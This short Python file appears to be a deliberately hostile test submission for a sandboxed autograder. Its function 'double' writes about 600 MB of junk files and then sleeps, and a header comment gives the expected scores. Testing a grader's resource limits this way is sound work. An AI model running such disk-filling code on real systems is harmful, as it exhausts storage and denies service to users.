# Tries to: fill the disk with files.
# Earns: double 0, greet 2
import time


def double(number):
    for count in range(200):
        with open(f"full-{count}", "wb") as file:
            file.write(bytes(3 << 20))
    time.sleep(60)
